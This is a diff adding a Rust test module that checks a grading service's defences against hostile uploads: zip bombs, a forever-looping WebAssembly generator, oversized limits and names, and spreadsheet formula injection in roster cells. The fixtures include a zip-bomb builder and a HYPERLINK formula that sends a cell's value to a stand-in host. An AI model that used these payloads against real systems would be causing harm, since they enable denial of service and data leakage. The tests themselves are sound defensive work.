@@ -1,0 +1,148 @@
+//! Hostile uploads of a careless or hostile instructor's account: zip bombs in the files the
+//! budget once did not count (rosters, problem bundles), problems whose programs or limits
+//! would hold the service for hours, and formulas in the cells of the gradebook files.
+
+use std::io::Write;
+
+use wasm_encoder::{CodeSection, ExportKind, ExportSection, Function, FunctionSection, MemorySection, MemoryType, Module, TypeSection};
+
+use crate::common::{COURSE, Service, fixture, upload_problem, zip};
+use crate::service::served;
+use crate::Case;
+
+/// A zip of `entries` copies of one entry of `mib` MiB of zeros, named by `name(i)`: a few
+/// MB compressed (the entry is compressed once and its compressed bytes copied).
+fn copies_zip(entries: usize, mib: usize, name: fn(usize) -> String) -> Vec<u8> {
+    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    let options = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated).large_file(false);
+    out.start_file(name(0), options).unwrap();
+    let zeros = vec![0u8; 1 << 20];
+    for _ in 0..mib {
+        out.write_all(&zeros).unwrap();
+    }
+    for i in 1..entries {
+        out.deep_copy_file(&name(0), &name(i)).unwrap();
+    }
+    out.finish().unwrap().into_inner()
+}
+
+fn roster_bombs_in_a_zip(service: &Service) -> String {
+    let client = service.instructor();
+    let problem = upload_problem(&client, "interval-sets");
+    let bomb = copies_zip(300, 16, |i| format!("f{i}/roster.csv"));
+    let reply = client.upload(&format!("/problems/{problem}/batches"), &[("name", "Rosters"), ("course", COURSE)], &[("modules", "rosters.zip", &bomb)]);
+    assert_eq!(reply.status, 303, "{}", reply.body);
+    let report = client.api(&format!("/api/uploads/{}", reply.redirect_id()));
+    let said = report.to_string();
+    assert!(said.contains("unpack to more than"), "{said}");
+    format!("{} MB zip of 300 × 16 MiB rosters: refused past the 1 GiB budget, none held", bomb.len() >> 20)
+}
+
+fn bundle_bombs_in_folders(service: &Service) -> String {
+    let client = service.instructor();
+    let bomb = copies_zip(100, 32, |i| format!("d{i}/reference.wasm"));
+    let reply = client.upload("/problems", &[], &[("bundle", "p.zip", &bomb)]);
+    assert_eq!(reply.status, 400, "{}", reply.body);
+    assert!(reply.body.contains("its problem files are in 100 folders"), "{}", reply.body);
+    format!("{} MB bundle of 100 × 32 MiB in folders: 400, nothing unpacked", bomb.len() >> 20)
+}
+
+/// The interval-sets bundle in folder `folder` with `problem.toml` and `generator.wasm`
+/// replaced when given.
+fn bundle(folder: &str, toml: Option<&str>, generator: Option<Vec<u8>>) -> Vec<u8> {
+    let dir = fixture("interval-sets");
+    let mut files: Vec<(String, Vec<u8>)> = ["reference.wasm", "statement.md"].iter().map(|f| (format!("{folder}/{f}"), std::fs::read(dir.join(f)).unwrap())).collect();
+    files.push((format!("{folder}/problem.toml"), toml.map_or_else(|| std::fs::read(dir.join("problem.toml")).unwrap(), |t| t.as_bytes().to_vec())));
+    files.push((format!("{folder}/generator.wasm"), generator.unwrap_or_else(|| std::fs::read(dir.join("generator.wasm")).unwrap())));
+    let files: Vec<(&str, &[u8])> = files.iter().map(|(n, b)| (n.as_str(), b.as_slice())).collect();
+    zip(&files)
+}
+
+/// A generator that never ends: `_start` loops.
+fn looping_generator() -> Vec<u8> {
+    let mut types = TypeSection::new();
+    types.ty().function([], []);
+    let mut functions = FunctionSection::new();
+    functions.function(0);
+    let mut memories = MemorySection::new();
+    memories.memory(MemoryType { minimum: 1, maximum: None, memory64: false, shared: false, page_size_log2: None });
+    let mut exports = ExportSection::new();
+    exports.export("_start", ExportKind::Func, 0).export("memory", ExportKind::Memory, 0);
+    let mut body = Function::new([]);
+    body.instructions().loop_(wasm_encoder::BlockType::Empty).br(0).end().end();
+    let mut code = CodeSection::new();
+    code.function(&body);
+    let mut module = Module::new();
+    module.section(&types).section(&functions).section(&memories).section(&exports).section(&code);
+    module.finish()
+}
+
+fn a_looping_generator_uploaded(service: &Service) -> String {
+    let client = service.instructor();
+    let reply = client.upload("/problems", &[], &[("bundle", "loop.zip", &bundle("loop", None, Some(looping_generator())))]);
+    assert_eq!(reply.status, 303, "{}", reply.body);
+    let page = client.api(&format!("/api/problems/{}", reply.redirect_id()));
+    let check = &page["check"]["checks"][0];
+    assert_eq!(check["passed"], false, "{page:#}");
+    assert!(check["detail"].as_str().unwrap().contains("the check stopped there"), "{check}");
+    "kept with its check failed: the generator stopped after 10 runs".to_owned()
+}
+
+fn limits_without_bounds(service: &Service) -> String {
+    let client = service.instructor();
+    let toml = "title = \"x\"\n[limits]\nfuel_floor = 1_000_000_000_000_000\n";
+    let reply = client.upload("/problems", &[], &[("bundle", "floor.zip", &bundle("floor", Some(toml), None))]);
+    assert_eq!(reply.status, 400, "{}", reply.body);
+    assert!(reply.body.contains("limits.fuel_floor must be between 1 and 10000000000"), "{}", reply.body);
+    "400: fuel_floor 10^15 refused with its range".to_owned()
+}
+
+fn a_folder_name_of_300_characters(service: &Service) -> String {
+    let client = service.instructor();
+    let reply = client.upload("/problems", &[], &[("bundle", "long.zip", &bundle(&"n".repeat(300), None, None))]);
+    assert_eq!(reply.status, 400, "{}", reply.body);
+    assert!(reply.body.contains("has 300 characters, more than 64"), "{}", reply.body);
+    "400 (not 500): the name's length said".to_owned()
+}
+
+fn formulas_in_gradebook_cells(service: &Service) -> String {
+    let client = service.instructor();
+    let problem = upload_problem(&client, "interval-sets");
+    let a01 = std::fs::read(fixture("interval-sets").join("submissions/a01.wasm")).unwrap();
+    let a02 = std::fs::read(fixture("interval-sets").join("submissions/a02.wasm")).unwrap();
+    let roster = "id,cohort,name,email,sis_user_id\na01,x,\"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\",@SUM(1+1),+1+1\na02,y,-2+3,\ta@b,\rc\n";
+    let reply = client.upload(
+        &format!("/problems/{problem}/batches"),
+        &[("name", "Formulas"), ("course", COURSE)],
+        &[("modules", "a01.wasm", &a01), ("modules", "a02.wasm", &a02), ("roster", "roster.csv", roster.as_bytes())],
+    );
+    assert_eq!(reply.status, 303, "{}", reply.body);
+    let batch = client.api(&format!("/api/uploads/{}", reply.redirect_id()))["batch"].as_i64().unwrap();
+    let analysis = crate::common::run_analysis(&client, batch, &[("stable_after", "200")]);
+    client.wait_for_analysis(analysis);
+    assert_eq!(client.post(&format!("/batches/{batch}/release"), &[]).status, 303, "released: every student gets a link");
+    let mut cells = 0;
+    for path in [format!("/analyses/{analysis}/files/canvas.csv"), format!("/analyses/{analysis}/files/moodle.csv"), "/students/links.csv".to_owned()] {
+        let reply = client.get(&path);
+        assert_eq!(reply.status, 200, "{path}: {}", reply.body);
+        let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(reply.body.trim_start_matches('\u{feff}').as_bytes());
+        for record in reader.records() {
+            for cell in record.unwrap().iter() {
+                cells += 1;
+                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{path}: the cell {cell:?} would be a formula");
+            }
+        }
+    }
+    format!("{cells} cells of canvas, moodle and links: none starts a formula")
+}
+
+pub fn cases() -> Vec<Case> {
+    vec![
+        served("300 roster.csv entries of 16 MiB in one zip", &[], roster_bombs_in_a_zip, 20.0, 250),
+        served("a problem bundle of 100 × 32 MiB entries in folders", &[], bundle_bombs_in_folders, 10.0, 250),
+        served("a problem whose generator loops", &[], a_looping_generator_uploaded, 60.0, 400),
+        served("problem.toml with fuel_floor 10^15", &[], limits_without_bounds, 10.0, 250),
+        served("a problem folder named with 300 characters", &[], a_folder_name_of_300_characters, 10.0, 250),
+        served("formulas in a roster's names, emails and ids", &[], formulas_in_gradebook_cells, 30.0, 250),
+    ]
+}
